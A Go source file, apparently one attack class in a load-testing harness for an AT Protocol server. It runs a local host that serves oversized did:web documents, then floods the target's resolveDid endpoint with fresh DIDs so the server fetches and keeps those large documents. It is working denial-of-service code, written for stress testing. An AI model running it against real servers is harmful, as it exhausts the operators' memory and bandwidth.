package main

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"strings"
	"time"
)

// documents makes the server fetch many large DID documents from hosts of the attacker's, which it may keep.
var documents = class{
	name: "documents", what: "makes the server fetch and keep large DID documents",
	clients: 10, grow: 300, slower: 40,
	start: func(ctx context.Context, f *field, n int) (*load, error) {
		listener, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return nil, err
		}
		_, port, _ := net.SplitHostPort(listener.Addr().String())
		service := strings.Repeat(`{"id":"#x","type":"X","serviceEndpoint":"https://x.example"},`, 900)
		host := &http.Server{ReadHeaderTimeout: 10 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			name, _, _ := strings.Cut(r.Host, ":")
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{"@context":["https://www.w3.org/ns/did/v1"],"id":"did:web:%s%%3A%s","alsoKnownAs":["at://x.test"],"service":[%s]}`, name, port, strings.TrimSuffix(service, ","))
		})}
		l := newLoad(ctx)
		l.wg.Go(func() { _ = host.Serve(listener) })
		l.wg.Go(func() {
			<-l.ctx.Done()
			_ = host.Close()
		})
		l.each(n, func(i int) {
			for k := 0; l.ctx.Err() == nil; k++ {
				c := l.dial(f)
				if c == nil {
					wait(l.ctx, 100*time.Millisecond)
					continue
				}
				did := fmt.Sprintf("did:web:d%d-%d.localhost%%253A%s", i, k, port)
				if request(c, "GET /xrpc/com.atproto.identity.resolveDid?did="+did, f.hostA, from(i*1000+k, 250), "Connection: close") {
					drain(c)
				}
				l.drop(c)
			}
		})
		return l, nil
	},
}
